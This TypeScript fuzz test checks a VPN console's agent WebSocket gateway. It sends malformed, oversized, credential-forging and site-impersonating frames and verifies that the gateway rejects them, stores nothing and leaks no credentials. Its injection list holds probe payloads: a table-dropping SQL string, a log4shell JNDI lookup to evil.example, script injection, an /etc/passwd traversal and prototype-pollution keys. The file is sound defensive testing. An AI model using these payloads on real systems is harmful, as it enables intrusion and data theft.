import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import type { PrismaClient } from "@dmvpn/db";
import {
  AGENT_MESSAGE_TYPES,
  AgentToConsole,
  CONSOLE_MESSAGE_TYPES,
  type ConsoleToAgent,
  MAX_MESSAGE_BYTES,
  parseConsoleMessage,
} from "@dmvpn/protocol";
import { SAMPLE_AGENT_MESSAGES, SAMPLE_STATUS } from "@dmvpn/protocol/testing";
import fc from "fast-check";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { WebSocket } from "ws";
import { createTestDb } from "../../../../../test/db";
import { signedInAdmin } from "../../../test/caller";
import { until } from "../../../test/until";
import { createInMemoryBus } from "../bus";
import { systemActor } from "../services/actor";
import { createEnrollmentToken, enrollAgent } from "../services/enrollment";
import { type AgentGateway, attachAgentUpgrades, createGateway } from "./index";

// Property tests against the real gateway over real sockets: hostile frames before hello, catalog-invalid and
// site-impersonating frames after it. The gateway runs with its production limits (size, error budget).

let db: PrismaClient;
let cleanupDb: () => Promise<void>;
let gateway: AgentGateway;
let server: Server;
let port = 0;
const site = { a: { id: "", credential: "" }, b: { id: "", credential: "" } };
const logs: { level: string; msg: string; fields: string }[] = [];

type Reply = { kind: "message"; text: string; message: ConsoleToAgent } | { kind: "close"; code: number };

/** A raw client socket whose replies (messages and the close) queue up in order. */
class Client {
  private queue: Reply[] = [];
  private waiter: (() => void) | null = null;
  invalidReplies: string[] = [];
  private constructor(readonly ws: WebSocket) {
    ws.on("message", (data) => {
      const text = String(data);
      const parsed = parseConsoleMessage(text);
      if (!parsed.ok) this.invalidReplies.push(text.slice(0, 200));
      else this.push({ kind: "message", text, message: parsed.message });
    });
    ws.on("close", (code) => this.push({ kind: "close", code }));
    // a write racing the server's close (oversized frames) may fail; the close event still says how it ended
    ws.on("error", () => {});
  }
  static async open() {
    const ws = new WebSocket(`ws://127.0.0.1:${port}/api/agent/ws`, { maxPayload: 16 * 1024 * 1024 });
    await new Promise<void>((resolve, reject) => {
      ws.once("open", () => resolve());
      ws.once("error", reject);
    });
    return new Client(ws);
  }
  private push(r: Reply) {
    this.queue.push(r);
    this.waiter?.();
  }
  async next(ms = 10_000): Promise<Reply> {
    const end = Date.now() + ms;
    while (this.queue.length === 0) {
      if (Date.now() > end) throw new Error("no reply from the gateway in time");
      await new Promise<void>((resolve) => {
        this.waiter = resolve;
        setTimeout(resolve, 50);
      });
      this.waiter = null;
    }
    return this.queue.shift()!;
  }
  send(data: string | Buffer, binary = false) {
    this.ws.send(data, { binary });
  }
  async close() {
    if (this.ws.readyState === WebSocket.CLOSED) return;
    const closed = new Promise((r) => this.ws.once("close", r));
    this.ws.close();
    await closed;
  }
}

const hello = (siteId: string, credential: string) =>
  JSON.stringify({
    v: 1,
    type: "hello",
    payload: { agentVersion: "t", platform: "sim", hostname: "fuzz", siteId, credential },
  });
const heartbeat = () => JSON.stringify({ v: 1, type: "heartbeat", payload: { sentAt: new Date().toISOString() } });

/** Hello, then the welcome for that site. */
async function authenticated(s: { id: string; credential: string }) {
  const c = await Client.open();
  c.send(hello(s.id, s.credential));
  const r = await c.next();
  expect(r.kind === "message" && r.message.type === "welcome" && r.message.payload.siteId).toBe(s.id);
  return c;
}

/**
 * Send a heartbeat and return every reply before its ack. Frames are handled in order per connection and parse
 * errors are answered on receipt, so these are exactly the replies to what was sent before.
 */
async function repliesUntilFence(c: Client): Promise<Reply[]> {
  c.send(heartbeat());
  const replies: Reply[] = [];
  for (;;) {
    const r = await c.next();
    if (r.kind === "message" && r.message.type === "heartbeat-ack") return replies;
    replies.push(r);
    if (r.kind === "close") return replies;
  }
}

/** Every row the gateway could write, ordered, so any change at all shows. */
async function agentTables() {
  const [agents, statuses, events, audit] = await Promise.all([
    db.agent.findMany({ orderBy: { siteId: "asc" } }),
    db.siteStatus.findMany({ orderBy: { siteId: "asc" } }),
    db.siteEvent.findMany({ orderBy: { id: "asc" } }),
    db.auditEvent.findMany({ orderBy: { id: "asc" } }),
  ]);
  return { agents, statuses, events, audit };
}

async function siteState(siteId: string) {
  const [agent, status, events] = await Promise.all([
    db.agent.findUnique({ where: { siteId } }),
    db.siteStatus.findUnique({ where: { siteId } }),
    db.siteEvent.findMany({ where: { siteId }, orderBy: { id: "asc" } }),
  ]);
  return { agent, status, events };
}

const tally = (counts: Record<string, number>, key: string) => {
  counts[key] = (counts[key] ?? 0) + 1;
};

beforeAll(async () => {
  ({ db, cleanup: cleanupDb } = await createTestDb());
  const api = await (await signedInAdmin(db)).api();
  const { id: networkId } = await api.networks.create({
    name: "fuzz",
    tunnelPrefix: "10.250.0.0/24",
    greKey: 50,
    nhrpNetworkId: 5,
  });
  const create = (name: string, role: "hub" | "spoke") =>
    api.sites.create({
      networkId,
      site:
        role === "hub"
          ? { name, role, platform: "vyos-1.5", wanInterface: "eth0", publicAddress: "203.0.113.50" }
          : { name, role, platform: "frr-linux", wanInterface: "eth0", lanPrefixes: ["10.50.0.0/24"] },
    });
  site.a.id = (await create("fuzz-hub", "hub")).id;
  site.b.id = (await create("fuzz-spoke", "spoke")).id;
  for (const s of [site.a, site.b]) {
    const { token } = await createEnrollmentToken(db, systemActor("test"), s.id);
    s.credential = (
      await enrollAgent(db, { token, hostname: "fuzz", platform: "sim", agentVersion: "t" }, "ws://x")
    ).credential;
  }
  // long heartbeats: the sweep must not close site B's idle socket while site A is being fuzzed
  gateway = createGateway({
    db,
    bus: createInMemoryBus(),
    heartbeatSeconds: 600,
    log: (level, msg, fields) => void logs.push({ level, msg, fields: JSON.stringify(fields ?? {}) }),
  });
  server = createServer((_req, res) => void res.writeHead(404).end());
  attachAgentUpgrades(server, gateway);
  await new Promise<void>((r) => server.listen(0, "127.0.0.1", () => r()));
  port = (server.address() as AddressInfo).port;
});

afterAll(async () => {
  await gateway?.close();
  server?.closeAllConnections();
  await new Promise<void>((r) => (server ? server.close(() => r()) : r()));
  await cleanupDb?.();
});

// ---- hostile frames before hello ---------------------------------------------------------------------------

const INJECTIONS = [
  `'; DROP TABLE "Agent"; --`,
  `" OR "1"="1`,
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4shell probe, literally
  "${jndi:ldap://evil.example/a}",
  "<script>alert(1)</script>",
  "../../../../etc/passwd",
  "\u0000\u0001\u001f",
  "%00%0d%0a",
  "{{7*7}}",
  '{"$where":"1"}',
  "\u202eevil\u202c",
  "🙂".repeat(40),
  "\ud800 lone surrogate",
];

type Frame = { label: string; data: string | Buffer; binary: boolean };

const text = (label: string, data: string): Frame => ({ label, data, binary: false });

function hostileFrame(): fc.Arbitrary<Frame> {
  const anyString = fc.oneof(
    fc.string({ unit: "binary", maxLength: 200 }),
    fc.string({ unit: "grapheme", maxLength: 200 }),
    fc.constantFrom(...INJECTIONS),
  );
  const envelope = fc
    .record(
      {
        v: fc.oneof(fc.constant(1), fc.jsonValue({ maxDepth: 1 })),
        type: fc.oneof(fc.constantFrom(...AGENT_MESSAGE_TYPES, ...CONSOLE_MESSAGE_TYPES), anyString),
        id: fc.oneof(anyString, fc.jsonValue({ maxDepth: 1 })),
        payload: fc.oneof(fc.jsonValue({ maxDepth: 3 }), fc.dictionary(anyString, fc.oneof(anyString, fc.integer()))),
      },
      { requiredKeys: ["type"] },
    )
    .map((e) => text("envelope", JSON.stringify(e)));
  // valid-shaped hellos that must not authenticate: wrong, injected or another site's credential
  const credential = fc.oneof(
    fc.constantFrom(...INJECTIONS).map((s) => s.padEnd(16, "x")),
    fc.string({ unit: "grapheme", minLength: 16, maxLength: 512 }),
    fc.constant("__sibling__"),
  );
  const siteId = fc.oneof(
    fc.constant("__a__"),
    fc.constant("__b__"),
    fc.constantFrom(...INJECTIONS),
    fc.string({ minLength: 1, maxLength: 128 }),
  );
  const hostileHello = fc.tuple(siteId, credential).map(([sid, cred]) => {
    const id = sid === "__a__" ? site.a.id : sid === "__b__" ? site.b.id : sid;
    const secret = cred === "__sibling__" ? (id === site.a.id ? site.b.credential : site.a.credential) : cred;
    return text("hello-wrong-credential", hello(id, secret));
  });
  const protoKey = fc
    .tuple(fc.constantFrom("__proto__", "constructor", "prototype"), fc.boolean())
    .map(([key, nested]) =>
      text(
        "forbidden-key",
        nested
          ? `{"v":1,"type":"hello","payload":{"${key}":{"polluted":true},"siteId":"x"}}`
          : `{"${key}":{"isAdmin":true},"v":1,"type":"heartbeat","payload":{}}`,
      ),
    );
  // sizes straddling the parser's limit and ws's hard limit (4x), as text or binary, JSON or not
  const huge = fc
    .tuple(
      fc.constantFrom(
        MAX_MESSAGE_BYTES - 100,
        MAX_MESSAGE_BYTES,
        MAX_MESSAGE_BYTES + 1,
        2 * MAX_MESSAGE_BYTES,
        4 * MAX_MESSAGE_BYTES + 1,
      ),
      fc.boolean(),
      fc.boolean(),
    )
    .map(([size, json, binary]) => {
      const body = json ? `{"v":1,"type":"event","payload":{"pad":"${"x".repeat(size - 43)}"}}` : "y".repeat(size);
      const bytes = Buffer.byteLength(body);
      const kind =
        bytes > 4 * MAX_MESSAGE_BYTES ? "over-hard-limit" : bytes > MAX_MESSAGE_BYTES ? "over-limit" : "within-limit";
      return { label: `huge-${kind}`, data: binary ? Buffer.from(body) : body, binary };
    });
  const binary = fc
    .uint8Array({ maxLength: 512 })
    .map((b) => ({ label: "binary", data: Buffer.from(b), binary: true }));
  const invalidUtf8 = fc
    .tuple(
      fc.constantFrom([0xff], [0xc3, 0x28], [0x80], [0xed, 0xa0, 0x80], [0xf8, 0x88, 0x80, 0x80, 0x80]),
      fc.boolean(),
    )
    .map(([bad, asBinary]) => ({
      label: asBinary ? "invalid-utf8-binary" : "invalid-utf8-text",
      data: Buffer.concat([Buffer.from('{"v":1,"type":"'), Buffer.from(bad), Buffer.from('"}')]),
      binary: asBinary,
    }));
  return fc.oneof(
    { arbitrary: anyString.map((s) => text("string", s)), weight: 4 },
    { arbitrary: fc.jsonValue().map((j) => text("json", JSON.stringify(j) ?? "null")), weight: 3 },
    { arbitrary: envelope, weight: 4 },
    { arbitrary: hostileHello, weight: 3 },
    { arbitrary: protoKey, weight: 1 },
    { arbitrary: binary, weight: 2 },
    { arbitrary: invalidUtf8, weight: 1 },
    { arbitrary: huge, weight: 1 },
  );
}

/** A JSON hello whose siteId is not well-formed UTF-16 (UTF-8 encoding would have to replace a character). */
function hasLoneSurrogateSiteId(frame: Frame): boolean {
  try {
    const siteId: unknown = JSON.parse(String(frame.data))?.payload?.siteId;
    return typeof siteId === "string" && Buffer.from(siteId).toString() !== siteId;
  } catch {
    return false;
  }
}

/** How the gateway may end a connection: bad UTF-8, too many errors, frame over the hard limit, auth refused. */
const CLEAN_CLOSES = new Set([1007, 1008, 1009, 4001]);

// ---- well-formed JSON that the catalog refuses, after hello -----------------------------------------------------

type Json = null | boolean | number | string | Json[] | { [key: string]: Json };
type Path = (string | number)[];

/** Every path inside a message, the root's children included. */
function pathsOf(value: Json, prefix: Path = []): Path[] {
  if (value === null || typeof value !== "object") return [];
  const entries: [string | number, Json][] = Array.isArray(value) ? value.map((v, i) => [i, v]) : Object.entries(value);
  return entries.flatMap(([k, v]) => [[...prefix, k], ...pathsOf(v, [...prefix, k])]);
}

function parentOf(root: Json, path: Path): { parent: Json; key: string | number } {
  let parent = root;
  for (const k of path.slice(0, -1)) parent = (parent as Record<string | number, Json>)[k] as Json;
  return { parent, key: path[path.length - 1]! };
}

type Mutation =
  | { kind: "replace"; at: number; value: Json }
  | { kind: "delete"; at: number }
  | { kind: "add-key"; at: number; key: string; value: Json }
  | { kind: "version"; value: Json }
  | { kind: "type"; value: string }
  | { kind: "id"; value: Json };

function mutate(sample: Json, m: Mutation): Json {
  const msg = structuredClone(sample) as { [key: string]: Json };
  const paths = pathsOf(msg);
  const pick = (at: number) => paths[at % paths.length]!;
  switch (m.kind) {
    case "replace": {
      const { parent, key } = parentOf(msg, pick(m.at));
      (parent as Record<string | number, Json>)[key] = m.value;
      break;
    }
    case "delete": {
      const { parent, key } = parentOf(msg, pick(m.at));
      if (Array.isArray(parent)) parent.splice(Number(key), 1);
      else delete (parent as Record<string, Json>)[key];
      break;
    }
    case "add-key": {
      const objects = [[], ...paths].filter((p) => {
        const v = p.length ? parentOf(msg, p).parent : null;
        const target = p.length ? (v as Record<string | number, Json>)[p[p.length - 1]!] : msg;
        return target !== null && typeof target === "object" && !Array.isArray(target);
      });
      const p = objects[m.at % objects.length]!;
      const target = (
        p.length ? (parentOf(msg, p).parent as Record<string | number, Json>)[p[p.length - 1]!] : msg
      ) as {
        [key: string]: Json;
      };
      // defineProperty: a generated "__proto__" key must become an own key, as JSON.parse would make it
      Object.defineProperty(target, m.key, { value: m.value, enumerable: true, writable: true, configurable: true });
      break;
    }
    case "version":
      msg.v = m.value;
      break;
    case "type":
      msg.type = m.value;
      break;
    case "id":
      msg.id = m.value;
      break;
  }
  return msg;
}

const SAMPLES_AFTER_HELLO = SAMPLE_AGENT_MESSAGES.filter((m) => m.type !== "hello") as unknown as Json[];

/** A sample message, mutated until the catalog refuses it (checked on exactly the bytes that will be sent). */
const catalogInvalidFrame = fc
  .tuple(
    fc.constantFrom(...SAMPLES_AFTER_HELLO),
    fc.oneof(
      fc.record({
        kind: fc.constant("replace" as const),
        at: fc.nat(),
        value: fc.jsonValue({ maxDepth: 2 }) as fc.Arbitrary<Json>,
      }),
      fc.record({ kind: fc.constant("delete" as const), at: fc.nat() }),
      fc.record({
        kind: fc.constant("add-key" as const),
        at: fc.nat(),
        key: fc.oneof(fc.string({ maxLength: 20 }), fc.constantFrom("siteId", "networkId", "__proto__", "constructor")),
        value: fc.jsonValue({ maxDepth: 1 }) as fc.Arbitrary<Json>,
      }),
      fc.record({ kind: fc.constant("version" as const), value: fc.jsonValue({ maxDepth: 1 }) as fc.Arbitrary<Json> }),
      fc.record({
        kind: fc.constant("type" as const),
        value: fc.oneof(fc.string({ maxLength: 30 }), fc.constantFrom(...CONSOLE_MESSAGE_TYPES)),
      }),
      fc.record({
        kind: fc.constant("id" as const),
        value: fc.oneof(
          fc.constant(""),
          fc.constant("i".repeat(129)),
          fc.integer(),
          fc.constant(null),
        ) as fc.Arbitrary<Json>,
      }),
    ),
  )
  .map(([sample, m]) => ({
    label: `${(sample as { type: string }).type}/${m.kind}`,
    text: JSON.stringify(mutate(sample, m)),
  }))
  .filter(({ text }) => {
    try {
      return !AgentToConsole.safeParse(JSON.parse(text)).success;
    } catch {
      return true;
    }
  });

/** Frames from site A's connection that name site B: a second hello (B's credential or not), extra siteId keys. */
function claimsSiteB(): fc.Arbitrary<{ label: string; text: string; accepted: number }> {
  const sample = SAMPLE_AGENT_MESSAGES.find((m) => m.type === "event");
  const event = sample?.type === "event" ? sample.payload.events[0]! : null;
  return fc.constantFrom(
    { label: "hello-as-b", text: hello(site.b.id, site.b.credential), accepted: 0 },
    { label: "hello-as-b-with-a-credential", text: hello(site.b.id, site.a.credential), accepted: 0 },
    {
      label: "envelope-siteId",
      text: JSON.stringify({ v: 1, type: "event", siteId: site.b.id, payload: { events: [event] } }),
      accepted: 0,
    },
    {
      label: "payload-siteId",
      text: JSON.stringify({
        v: 1,
        type: "status-snapshot",
        payload: { seq: 99, siteId: site.b.id, status: SAMPLE_STATUS },
      }),
      accepted: 0,
    },
    {
      // events are open objects: the extra key is dropped and the event is recorded for A, the sender
      label: "event-siteId",
      text: JSON.stringify({ v: 1, type: "event", payload: { events: [{ ...event, siteId: site.b.id }] } }),
      accepted: 1,
    },
  );
}

describe("gateway fuzz", () => {
  it("answers hostile frames before hello with an error or a clean close, stays up and writes nothing", async () => {
    const before = await agentTables();
    const outcomes: Record<string, number> = {};
    let runs = 0;
    let frames = 0;
    let internalFromLoneSurrogate = 0;
    await fc.assert(
      fc.asyncProperty(fc.array(hostileFrame(), { minLength: 1, maxLength: 6 }), async (batch) => {
        runs++;
        const c = await Client.open();
        for (const frame of batch) {
          frames++;
          c.send(frame.data, frame.binary);
          const r = await c.next();
          if (r.kind === "close") {
            expect(CLEAN_CLOSES, `close ${r.code} after ${frame.label}`).toContain(r.code);
            tally(outcomes, `${frame.label} -> close ${r.code}`);
            break;
          }
          expect(["error", "auth-error"]).toContain(r.message.type);
          // a refused credential is never echoed back
          if (frame.label === "hello-wrong-credential")
            expect(r.text).not.toContain(JSON.parse(String(frame.data)).payload.credential);
          if (r.message.type === "auth-error") {
            const closed = await c.next();
            expect(closed).toEqual({ kind: "close", code: 4001 });
            tally(outcomes, `${frame.label} -> auth-error, close 4001`);
            break;
          }
          const code = r.message.type === "error" ? r.message.payload.code : "";
          if (code === "internal") {
            // Known defect: a hello whose siteId holds a lone UTF-16 surrogate passes the catalog and then fails
            // in Prisma's query serialisation. Anything else reaching `internal` is a new bug.
            expect(hasLoneSurrogateSiteId(frame), `internal error for ${frame.label}`).toBe(true);
            internalFromLoneSurrogate++;
          }
          tally(outcomes, `${frame.label} -> error ${code}`);
        }
        expect(c.invalidReplies).toEqual([]);
        await c.close();

        // the server is still there for the next agent, and nobody got in
        const fresh = await Client.open();
        fresh.send("{not json");
        const probe = await fresh.next();
        expect(probe.kind === "message" && probe.message.type === "error" && probe.message.payload.code).toBe(
          "invalid-json",
        );
        await fresh.close();
        expect(gateway.isConnected(site.a.id) || gateway.isConnected(site.b.id)).toBe(false);
        expect(await agentTables()).toEqual(before);
      }),
      { numRuns: 150 },
    );
    const errorLogs = logs.filter((l) => l.level === "error");
    expect(errorLogs.map((l) => l.msg)).toEqual(
      Array(internalFromLoneSurrogate).fill("handling an agent message failed"),
    );
    const logText = JSON.stringify(logs);
    expect(logText).not.toContain(site.a.credential);
    expect(logText).not.toContain(site.b.credential);
    console.log(
      `[gateway-fuzz] before hello: ${runs} runs, ${frames} hostile frames, ${internalFromLoneSurrogate} internal errors from lone-surrogate site ids; outcomes ${JSON.stringify(outcomes, null, 1)}`,
    );
    expect(runs).toBeGreaterThanOrEqual(150);
  }, 300_000);
  it("after hello answers catalog-invalid frames with errors, and frames naming another site change nothing there", async () => {
    // site B is online on its own connection with a stored status; site A has a stored status too
    const b = await authenticated(site.b);
    b.send(JSON.stringify({ v: 1, type: "status-snapshot", payload: { seq: 1, status: SAMPLE_STATUS } }));
    expect(await repliesUntilFence(b)).toEqual([]);
    const seedA = await authenticated(site.a);
    seedA.send(JSON.stringify({ v: 1, type: "status-snapshot", payload: { seq: 5, status: SAMPLE_STATUS } }));
    expect(await repliesUntilFence(seedA)).toEqual([]);
    await seedA.close();
    await until(() => !gateway.isConnected(site.a.id), "site A offline", 10_000);
    await gateway.flush(); // statuses are held in memory and written in batches
    const siteB = await siteState(site.b.id);
    expect(siteB.status?.seq).toBe(1);
    expect(siteB.agent?.connected).toBe(true);
    const statusA = await db.siteStatus.findUnique({ where: { siteId: site.a.id } });
    expect(statusA?.seq).toBe(5);
    const auditBefore = await db.auditEvent.count();

    const outcomes: Record<string, number> = {};
    let runs = 0;
    let invalidFrames = 0;
    let claimFrames = 0;
    const frame = fc.oneof(
      { arbitrary: catalogInvalidFrame.map((f) => ({ ...f, accepted: 0, claim: false })), weight: 5 },
      { arbitrary: claimsSiteB().map((f) => ({ ...f, claim: true })), weight: 1 },
    );
    await fc.assert(
      fc.asyncProperty(fc.array(frame, { minLength: 1, maxLength: 8 }), async (batch) => {
        runs++;
        const a = await authenticated(site.a);
        expect(await repliesUntilFence(a)).toEqual([]); // the hello's writes are done
        const eventsA = await db.siteEvent.count({ where: { siteId: site.a.id } });
        let accepted = 0;
        for (const f of batch) {
          if (f.claim) claimFrames++;
          else invalidFrames++;
          a.send(f.text);
          const replies = await repliesUntilFence(a);
          accepted += f.accepted;
          if (f.accepted) {
            expect(replies, f.label).toEqual([]);
            tally(outcomes, `${f.claim ? "claim " : ""}${f.label} -> accepted for the sender`);
            continue;
          }
          expect(replies, f.label).toHaveLength(1);
          const r = replies[0]!;
          expect(r.kind === "message" && r.message.type, f.label).toBe("error");
          const code = r.kind === "message" && r.message.type === "error" ? r.message.payload.code : "";
          expect(["invalid-message", "unsupported-version", "unexpected-message"], `${f.label}: ${code}`).toContain(
            code,
          );
          tally(outcomes, `${f.claim ? `claim ${f.label}` : f.label.split("/")[1]} -> error ${code}`);
        }
        // the connection is still A's and still open; what is stored for A did not move
        expect(a.ws.readyState).toBe(WebSocket.OPEN);
        expect(a.invalidReplies).toEqual([]);
        expect(gateway.isConnected(site.a.id)).toBe(true);
        await gateway.flush(); // whatever was accepted is in the database now
        expect((await db.agent.findUnique({ where: { siteId: site.a.id } }))?.connected).toBe(true);
        expect(await db.siteStatus.findUnique({ where: { siteId: site.a.id } })).toEqual(statusA);
        expect(await db.siteEvent.count({ where: { siteId: site.a.id } })).toBe(eventsA + accepted);
        // and nothing changed for B, whose own connection is untouched
        expect(b.ws.readyState).toBe(WebSocket.OPEN);
        expect(gateway.isConnected(site.b.id)).toBe(true);
        expect(await siteState(site.b.id)).toEqual(siteB);
        expect(await db.auditEvent.count()).toBe(auditBefore);
        await a.close();
        await until(
          async () =>
            !gateway.isConnected(site.a.id) &&
            (await db.agent.findUnique({ where: { siteId: site.a.id } }))?.connected === false,
          "site A offline",
          10_000,
        );
      }),
      { numRuns: 100 },
    );
    // B still answers on its original connection
    expect(await repliesUntilFence(b)).toEqual([]);
    await b.close();
    console.log(
      `[gateway-fuzz] after hello: ${runs} runs, ${invalidFrames} catalog-invalid frames, ${claimFrames} frames naming site B; outcomes ${JSON.stringify(outcomes, null, 1)}`,
    );
    expect(runs).toBeGreaterThanOrEqual(100);
  }, 300_000);
});
